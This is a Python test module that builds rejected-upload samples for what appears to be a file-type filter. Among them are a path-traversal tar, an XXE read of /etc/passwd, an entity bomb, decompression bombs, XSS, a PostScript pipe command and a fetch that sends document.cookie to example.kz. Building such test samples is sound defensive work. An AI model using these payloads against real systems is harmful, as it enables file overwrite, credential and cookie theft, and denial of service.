"""Files of types that are not taken, whatever they are called."""

import bz2
import gzip
import io
import tarfile
from collections.abc import Callable

from tests.hostile.made import archive, picture


def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as made:
        member = tarfile.TarInfo("../../etc/cron.d/a")
        member.size = 1
        made.addfile(member, io.BytesIO(b"a"))
    return out.getvalue()


LAUGHS = b"".join(b'<!ENTITY a%d "%s">' % (no, b"&a%d;" % (no - 1) * 10) for no in range(1, 10))
OTHER_TYPES: dict[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "one byte": lambda: b"%",
    "zeros": lambda: b"\0" * 5_000,
    "words": "Аттестаттау парағы".encode,
    "page": lambda: b"<html><script>alert(1)</script></html>",
    "page in UTF-16": lambda: "<html><script>alert(1)</script></html>".encode("utf-16"),
    "page of many parts": lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n<html>",
    "drawing": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>',
    "drawing that runs": lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>',
    "XML that reads a disk": lambda: b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    "XML that swells": lambda: b'<!DOCTYPE a [<!ENTITY a0 "a">' + LAUGHS + b"]><a>&a9;</a>",
    "style that runs": lambda: b'<?xml-stylesheet href="a.xsl"?><xsl:stylesheet/>',
    "script of a browser": lambda: b"fetch('//example.kz/' + document.cookie)",
    "script of Windows": lambda: b'CreateObject("WScript.Shell").Run "calc"',
    "script of PHP": lambda: b"<?php phpinfo();",
    "script of a shell": lambda: b"#!/bin/sh\nid\n",
    "script of commands": lambda: b"@echo off\r\ncalc.exe\r\n",
    "application of HTML": lambda: b"<hta:application id=a><script language=vbscript>",
    "program of Windows": lambda: b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 200,
    "program of Linux": lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 200,
    "program of a Mac": lambda: b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\0" * 200,
    "program of Java": lambda: b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\0" * 90,
    "shortcut": lambda: b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + b"\0" * 60,
    "address": lambda: b"[InternetShortcut]\r\nURL=file://example.kz/share\r\n",
    "archive": lambda: archive(a_txt=b"a"),
    "archive that swells": lambda: archive(a_txt=b"\0" * 50_000_000),
    "archive that climbs": lambda: archive(**{"..__..__etc__passwd": b"a"}),
    "GZIP that swells": lambda: gzip.compress(b"\0" * 20_000_000),
    "BZIP2": lambda: bz2.compress(b"a" * 1_000),
    "TAR that climbs": tar,
    "RAR": lambda: b"Rar!\x1a\x07\x01\x00" + b"\0" * 60,
    "7z": lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 60,
    "disk": lambda: b"\0" * 32_769 + b"CD001" + b"\0" * 60,
    "Word": lambda: archive(Content_Types_xml=b"<Types/>", word__document_xml=b"<w/>"),
    "Word with a program": lambda: archive(word__vbaProject_bin=b"\xd0\xcf\x11\xe0"),
    "Excel": lambda: archive(xl__workbook_xml=b"<workbook/>"),
    "old Word": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "RTF with an object": lambda: rb"{\rtf1{\object\objocx\objdata 0105}}",
    "letter": lambda: b"From: a@example.kz\nSubject: a\nContent-Type: text/html\n\n<html>",
    "table with a formula": lambda: b"=HYPERLINK(A1)\n",
    "PostScript": lambda: b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n",
    "FDF": lambda: b"%FDF-1.2\n1 0 obj << /FDF << /F (http://example.kz) >> >> endobj\n%%EOF\n",
    "Flash": lambda: b"CWS\x0a" + b"\0" * 60,
    "moving picture": lambda: picture("GIF"),
    "BMP": lambda: picture("BMP"),
    "TIFF": lambda: picture("TIFF"),
    "WebP": lambda: picture("WEBP"),
    "icon": lambda: picture("ICO"),
    "film": lambda: b"\0\0\0\x18ftypmp42" + b"\0" * 90,
    "font": lambda: b"\0\x01\0\0\0\x0a" + b"\0" * 90,
    "database": lambda: b"SQLite format 3\0" + b"\0" * 90,
}
